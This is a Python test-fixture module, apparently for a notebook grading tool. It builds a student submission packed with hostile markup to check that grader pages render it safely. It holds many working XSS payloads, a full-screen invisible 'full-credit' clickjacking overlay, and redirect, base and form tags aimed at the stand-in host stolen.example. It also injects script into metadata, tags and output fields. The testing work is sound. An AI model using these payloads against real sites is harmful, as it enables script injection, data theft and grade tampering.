"""What a student can put into a notebook against the pages that show it. Whatever of it acts says `stolen`."""

from __future__ import annotations

import json
from typing import Any

from mini_course import answered

STEALS = "document.title='stolen';window.stolen=1"
GRADED = ("test_double", "test_shift_right", "test_shift_left", "explain")
# Elements that formgrader takes for the fields of every mark, and a button over the whole page that gives full marks.
OVERLAY = (
    '<div class="nbgrader_cell">'
    + "".join(f'<a id="{name}" name="{name}"></a><a id="{name}-comment"></a>' for name in GRADED)
    + '<button class="full-credit" style="position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0.01;'
    'z-index:9999"></button></div>'
)
COVER = (
    '<a class="modal-backdrop navbar-fixed-top" style="position:fixed;inset:0" href="https://stolen.example/">click</a>'
)
RUNS = [
    f"<script>{STEALS}</script>",
    f'<img src=x onerror="{STEALS}">',
    f'<svg onload="{STEALS}"><script>{STEALS}</script></svg>',
    f'<iframe srcdoc="<script>parent.{STEALS}</script>"></iframe>',
    f'<a href="javascript:{STEALS}">one</a> [two](javascript:{STEALS}) [three](data:text/html,<b>{STEALS}</b>)',
    '<meta http-equiv="refresh" content="0;url=https://stolen.example/">',
    '<base href="https://stolen.example/">',
    '<form action="https://stolen.example/"><button>send</button><input name="submission_id"></form>',
    f'<details open ontoggle="{STEALS}"><summary>x</summary></details>',
    f'<object data="data:text/html,<script>{STEALS}</script>"></object><embed src="https://stolen.example/">',
    '<link rel="stylesheet" href="https://stolen.example/"><style>* { display: none }</style>',
    '<img src="https://stolen.example/x.png"> ![x](https://stolen.example/y.png) ![x](/formgrader/api/assignments)',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{STEALS}"></style></mglyph></table></mtext></math>',
    r"$\text{</math><img src=x onerror=stolen=1>}$ $\href{javascript:stolen=1}{x}$ $\class{full-credit}{x}$",
    r"$\hspace{-60em}\rule{200em}{200em} \llap{\Huge OVER} \style{position:fixed}{x}$",
    "Z" + "\u0300\u0322" * 200 + " \u202eover\u2066",
    '<div data-toggle="tooltip" data-link="/stolen" title="x" onmouseover="stolen=1" tabindex="1">d</div>',
    "```html\n</pre><script>window.stolen=1</script>\n```\n\n```mermaid\ngraph TD; click A stolen\n```",
]
HEADINGS = "\n\n".join(f'# {name}\n\n## {name}-comment\n\n<h3 id="{name}">x</h3>' for name in GRADED)
MARKUP = "\n\n".join([OVERLAY, COVER, *RUNS])
NAME = '<img src=x onerror="document.title=1;stolen=1"><b id=explain class=full-credit>Eve'


def hostile_notebook() -> Any:
    """A submission with all of that in cells of every kind, before everything else."""
    notebook = answered("return 3 * x", explain=f"{HEADINGS}\n\n{MARKUP}\n\nIt *stretches*: $\\frac{{a}}{{b}}$.")
    explain = notebook.cells.pop()
    about = {"tags": ['"><script>window.stolen=1</script>'], "name": NAME, "raw_mimetype": "text/html"}
    own = [
        {"cell_type": kind, "metadata": about, "source": source, "id": f"own-{kind}-{number}"}
        for kind in ("raw", "markdown", "code")
        for number, source in enumerate([MARKUP, OVERLAY, HEADINGS, f'print("""{MARKUP}""")'])
    ]
    for cell in own:
        if cell["cell_type"] == "code":
            cell |= {"outputs": [], "execution_count": None}
    whole = json.loads(json.dumps(notebook))
    whole["cells"] = [*own, json.loads(json.dumps(explain)), *whole["cells"]]
    whole["metadata"]["title"] = "</title><script>window.stolen=1</script>"
    return whole


def with_outputs(notebook: Any) -> Any:
    """A marked notebook as nbgrader's own grading would leave it: what the student's code displayed is all there."""
    kinds = ["text/html", "image/svg+xml", "text/markdown", "text/latex", "application/javascript", "text/plain"]
    kinds += ["image/png", "image/jpeg", "application/vnd.jupyter.widget-view+json", "application/pdf"]
    outputs: list[Any] = [
        {
            "output_type": "display_data",
            "data": {kind: f'"></pre></script>{MARKUP}'},
            "metadata": {"text/html": {"isolated": 1}},
        }
        for kind in kinds
    ]
    outputs += [{"output_type": "stream", "name": "stdout", "text": MARKUP + "\x1b[31;1mred"}]
    outputs += [{"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP]}]
    cell = next(
        cell for cell in notebook["cells"] if cell["cell_type"] == "code" and "nbgrader" not in cell["metadata"]
    )
    cell["outputs"] = outputs
    for number, one in enumerate(notebook["cells"]):
        one["id"] = GRADED[number % 4]
        one["metadata"] |= {"tags": ["full-credit nbgrader_cell", '"><script>window.stolen=1</script>']}
        if one["cell_type"] == "markdown":
            one["attachments"] = {"x.svg": {"image/svg+xml": MARKUP}}
    notebook["metadata"]["title"] = "</title><script>window.stolen=1</script>"
    return notebook
